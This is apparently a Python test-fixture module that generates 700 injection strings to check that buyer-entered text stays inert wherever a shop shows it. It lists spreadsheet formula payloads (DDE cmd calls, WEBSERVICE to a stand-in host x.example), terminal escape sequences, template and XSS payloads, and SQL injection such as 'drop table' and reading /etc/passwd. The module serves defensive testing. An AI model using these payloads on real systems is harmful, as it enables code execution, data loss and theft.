"""Seven hundred texts that a buyer could type and that must stay texts wherever they are shown."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product

MARK = "PAYLOAD"
"""In each that would run something, so that what runs can be told."""
COUNT = 700
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/c PAYLOAD'!A1", '=HYPERLINK("http://x.example/PAYLOAD","a")',
    '=WEBSERVICE("http://x.example/PAYLOAD")', "=IMPORTXML(A1)", "-2+3+cmd|'PAYLOAD'!A0", "@PAYLOAD", "＝1+1",
    "＋1+1", "－1+1", "＠SUM(1)", "%0A-1+1", '=DDE("cmd";"PAYLOAD";"a")',
)  # fmt: skip
BEFORE = ("", " ", "\t", "\n", "\u3000", "\u00a0", "'", "\ufeff", "\u200b", "\x07", ";", ",", '"')
TERMINAL = (
    "\x1b[31mred", "\x1b[2J", "\x1b]0;PAYLOAD\x07", "\x1b]8;;http://x.example\x07a\x1b]8;;\x07",
    "\x1b]52;c;UEFZTE9BRA==\x07", "\x1bP1;PAYLOAD\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x9b31m",
    "\x9d0;PAYLOAD\x9c", "a\rb", "a\bb", "\x07", "\x7f", "\u202egnp.exe", "\u2066a\u2069", "\u200bx",
    "a\u2028b", "\u2029", "\u00adx", "\ufff9x", "\U000e0041", "\ue000", "\x0c", "\x0b", "\x1c", "\x85",
)  # fmt: skip
MARKUP = (
    "[nike]正品鞋", "[/限时]", "[bold]x[/bold]", "12:100:34", "张\\", "\\[x]", "[link=http://x.example]a[/link]",
    "[@click=x]a", "| a | b |", "**fat**", "`code`", "# head", "- item", "![x](http://x.example/PAYLOAD)",
    "[x](javascript:PAYLOAD)", "<!-- x -->", "~~x~~", "$\\x$", ":smile:", "{% x %}", "{{ 7*7 }}", "${7*7}",
    "%s%n", "{0}", "\\u001b[31m", "&amp;",
)  # fmt: skip
HTML = (
    "<script>PAYLOAD()</script>", "</script><script>PAYLOAD()</script>", "<img src=x onerror=PAYLOAD()>",
    '"><svg onload=PAYLOAD()>', "<iframe src=javascript:PAYLOAD()>", "<a href='javascript:PAYLOAD()'>x</a>",
    "' onmouseover='PAYLOAD()", '" autofocus onfocus="PAYLOAD()', "</style><script>PAYLOAD()</script>",
    "</title><script>PAYLOAD()</script>", "<body onload=PAYLOAD()>", "<base href=http://x.example>",
    "<meta http-equiv=refresh content='0;url=http://x.example/PAYLOAD'>",
    "<form action=http://x.example><input>", "<link rel=stylesheet href=http://x.example/PAYLOAD>",
    "--><script>PAYLOAD()</script>", "]]><script>PAYLOAD()</script>",
    "<math><a xlink:href=javascript:PAYLOAD()>x", "&lt;script&gt;PAYLOAD()&lt;/script&gt;",
    "<object data=PAYLOAD>", "<table background=javascript:PAYLOAD()>", "<x style=x:expression(PAYLOAD())>",
    "\u2028PAYLOAD()", "<!--<script>",
)  # fmt: skip
SQL = (
    "'; drop table kept.orders; --", "' or '1'='1", '"; drop schema kept cascade; --', "1; attach 'x.duckdb'",
    "select", "$name", "?", "%", "_", "'||(select 1)||'", "/* x */", "copy x to 'PAYLOAD'", "null", "NaN",
    "-- x", "\\'; --", "'; install httpfs; --", "\\x27 or 1=1", "read_csv('/etc/passwd')", "pragma x",
)  # fmt: skip
WITHIN = ("{}", "小明{}", "{}袜子", "小明{}袜子")


def _all() -> Iterator[str]:
    yield from (before + formula for formula, before in product(FORMULAS, BEFORE))
    for texts in (TERMINAL, MARKUP, HTML, SQL):
        yield from (within.format(text) if "{}" in within else text for text, within in product(texts, WITHIN))
    yield from (
        first.replace(MARK, "a") + second for first, second in product(HTML, (*TERMINAL[:5], *FORMULAS[:3], *SQL[:3]))
    )


def payloads() -> list[str]:
    """No two alike, in a fixed order."""
    return list(islice(dict.fromkeys(_all()), COUNT))
